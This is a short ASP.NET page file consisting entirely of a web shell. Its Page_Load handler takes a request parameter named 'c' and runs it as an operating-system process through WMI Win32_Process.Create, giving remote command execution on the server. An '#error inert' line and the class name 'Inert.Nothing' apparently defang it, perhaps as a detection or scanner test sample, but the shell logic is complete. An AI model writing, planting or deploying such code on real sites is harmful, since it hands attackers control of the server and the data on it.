<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ new System.Management.ManagementClass("Win32_Process").InvokeMethod("Create",new object[]{Request["c"]}); }
</script>
